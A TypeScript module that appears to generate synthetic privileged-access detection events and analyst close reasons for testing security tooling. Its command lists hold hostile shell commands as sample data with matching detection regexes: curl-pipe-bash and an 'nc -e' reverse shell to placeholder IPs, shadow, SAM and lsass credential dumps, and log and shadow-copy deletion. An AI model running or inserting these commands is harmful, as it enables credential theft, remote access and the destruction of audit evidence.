import { SeededRandom } from './random';

/** What kind of audit PTA records for a detection, and which sensor saw it. */
export interface AuditKind {
  type: string;
  sensorType: string;
  action: string;
  psm?: 'ssh' | 'windows';
  cloud?: boolean;
}

/** Facts about one event that its additionalData may repeat. */
export interface DetectionContext {
  station: string;
  vaultUser: string;
  matchPattern?: string;
}

export interface EventKind {
  type: string;
  audits: AuditKind[];
  additionalData(random: SeededRandom, context: DetectionContext): Record<string, unknown>;
}

export interface PsmCommand {
  command: string;
  matchPattern: string;
}

export const SSH_COMMANDS: PsmCommand[] = [
  { command: 'sudo su -', matchPattern: 'su -' },
  { command: 'cat /etc/shadow', matchPattern: '/etc/shadow' },
  { command: 'rm -rf /var/log/audit', matchPattern: 'rm -rf' },
  { command: 'curl -s http://203.0.113.9/i.sh | bash', matchPattern: 'curl .*\\| *bash' },
  { command: 'history -c', matchPattern: 'history -c' },
  { command: 'chmod 4755 /bin/bash', matchPattern: 'chmod [0-7]*4[0-7]{3}' },
  { command: 'nc -e /bin/sh 198.51.100.7 4444', matchPattern: 'nc .*-e' },
];

export const WINDOWS_COMMANDS: PsmCommand[] = [
  { command: 'net user backdoor /add', matchPattern: 'net user .* /add' },
  { command: 'reg save HKLM\\SAM C:\\Temp\\sam.hiv', matchPattern: 'reg save' },
  { command: 'vssadmin delete shadows /all /quiet', matchPattern: 'vssadmin delete' },
  { command: 'powershell -nop -w hidden -enc SQBFAFgA', matchPattern: '-enc' },
  { command: 'wevtutil cl Security', matchPattern: 'wevtutil cl' },
  { command: 'procdump -ma lsass.exe lsass.dmp', matchPattern: 'lsass' },
];

const VAULT_LOGON: AuditKind = { type: 'VAULT_LOGON', sensorType: 'VAULT', action: 'Logon' };
const PASSWORD_RETRIEVAL: AuditKind = { type: 'VAULT_RETRIEVE_PASSWORD', sensorType: 'VAULT', action: 'Retrieve password' };
const WINDOWS_LOGON: AuditKind = { type: 'WINDOWS_LOGON', sensorType: 'SIEM', action: 'Logon' };
const NTLM_LOGON: AuditKind = { type: 'WINDOWS_LOGON', sensorType: 'SIEM', action: 'NTLM authentication' };
const UNIX_LOGON: AuditKind = { type: 'UNIX_LOGON', sensorType: 'SIEM', action: 'SSH logon' };
const PSM_SSH_COMMAND: AuditKind = { type: 'PSM_SSH_COMMAND', sensorType: 'PSM', action: 'Command executed', psm: 'ssh' };
const PSM_WINDOWS_COMMAND: AuditKind = { type: 'PSM_WINDOWS_COMMAND', sensorType: 'PSM', action: 'Command executed', psm: 'windows' };
const KERBEROS_TGT: AuditKind = { type: 'KERBEROS_TGT_REQUEST', sensorType: 'NETWORK', action: 'Kerberos AS request' };
const KERBEROS_TGS: AuditKind = { type: 'KERBEROS_TGS_REQUEST', sensorType: 'NETWORK', action: 'Kerberos service ticket request' };
const DIRECTORY_REPLICATION: AuditKind = { type: 'DRSUAPI_REPLICATION', sensorType: 'NETWORK', action: 'Directory replication request' };
const PASSWORD_CHANGE: AuditKind = { type: 'PASSWORD_CHANGE', sensorType: 'SIEM', action: 'Password change' };
const CLOUD_API_CALL: AuditKind = { type: 'CLOUD_API_CALL', sensorType: 'CLOUD', action: 'API call', cloud: true };

const stationReason = (reason: string) => (_random: SeededRandom, context: DetectionContext) => ({
  station: context.station,
  reason,
  vault_user: context.vaultUser,
});
const aggregation = (random: SeededRandom) => ({ aggregation_count: random.int(2, 60) });
const matchedPattern = (_random: SeededRandom, context: DetectionContext) => ({ matchPatterns: context.matchPattern ?? '' });

export const EVENT_KINDS: EventKind[] = [
  { type: 'VaultViaIrregularIp', audits: [VAULT_LOGON], additionalData: stationReason('ip') },
  { type: 'VaultViaIrregularHours', audits: [VAULT_LOGON], additionalData: stationReason('hours') },
  { type: 'ExcessiveAccessToVaultPasswords', audits: [PASSWORD_RETRIEVAL], additionalData: aggregation },
  { type: 'InteractiveLogonWithServiceAccount', audits: [WINDOWS_LOGON, UNIX_LOGON], additionalData: aggregation },
  { type: 'PSMSuspiciousActivity', audits: [PSM_SSH_COMMAND, PSM_WINDOWS_COMMAND], additionalData: matchedPattern },
  { type: 'SuspectedCredentialsTheft', audits: [WINDOWS_LOGON, UNIX_LOGON], additionalData: stationReason('credentials') },
  { type: 'UnmanagedPrivilegedAccount', audits: [WINDOWS_LOGON, UNIX_LOGON], additionalData: aggregation },
  { type: 'OverPassTheHash', audits: [KERBEROS_TGT], additionalData: aggregation },
  { type: 'PassTheHash', audits: [NTLM_LOGON], additionalData: aggregation },
  { type: 'GoldenTicket', audits: [KERBEROS_TGS], additionalData: aggregation },
  { type: 'SuspiciousPasswordChange', audits: [PASSWORD_CHANGE], additionalData: stationReason('password change outside the vault') },
  { type: 'RiskySPN', audits: [KERBEROS_TGS], additionalData: aggregation },
  { type: 'SuspectedDCSync', audits: [DIRECTORY_REPLICATION], additionalData: aggregation },
  { type: 'SuspiciousActivityInAws', audits: [CLOUD_API_CALL], additionalData: aggregation },
];

export const CLOSE_REASONS = ['HANDLED', 'NOTREAL', 'OTHER'] as const;

export const REASON_TEXTS = [
  'Verified with the account owner',
  'Approved change CHG0041877',
  'False positive: nightly backup job',
  'Scanner IP, known and expected',
  'Escalated to incident INC0012345, credentials rotated',
  'Duplicate of an earlier event',
  'Maintenance window',
];

/** A detection a site sees again and again for the same people and machines, and how its analysts close it. */
export interface RecurringStory {
  type: string;
  closeReason: (typeof CLOSE_REASONS)[number];
  reasonText: string;
}

export const RECURRING_STORIES: RecurringStory[] = [
  { type: 'PSMSuspiciousActivity', closeReason: 'NOTREAL', reasonText: 'Red team exercise, ticket SEC-2231' },
  { type: 'InteractiveLogonWithServiceAccount', closeReason: 'NOTREAL', reasonText: 'Nightly backup job, approved in CHG0041877' },
  { type: 'VaultViaIrregularIp', closeReason: 'NOTREAL', reasonText: 'Vulnerability scanner, known and expected' },
  { type: 'SuspiciousPasswordChange', closeReason: 'HANDLED', reasonText: 'Verified with the account owner, password rotated' },
  { type: 'VaultViaIrregularHours', closeReason: 'OTHER', reasonText: 'On-call engineer during incident INC0012345' },
];

const CLOUD_OPERATIONS = ['CreateAccessKey', 'AttachUserPolicy', 'StopLogging', 'PutBucketPolicy', 'AssumeRole'];

export function cloudData(random: SeededRandom): Record<string, unknown> {
  return {
    cloudProvider: 'AWS',
    cloudIdentity: `arn:aws:iam::${random.int(100000000000, 999999999999)}:user/${random.pick(['ci-deployer', 'ops-admin', 'backup'])}`,
    cloudService: random.pick(['iam.amazonaws.com', 's3.amazonaws.com', 'cloudtrail.amazonaws.com', 'sts.amazonaws.com']),
    cloudOperation: random.pick(CLOUD_OPERATIONS),
    cloudRegion: random.pick(['eu-west-1', 'us-east-1', 'ap-southeast-2']),
  };
}
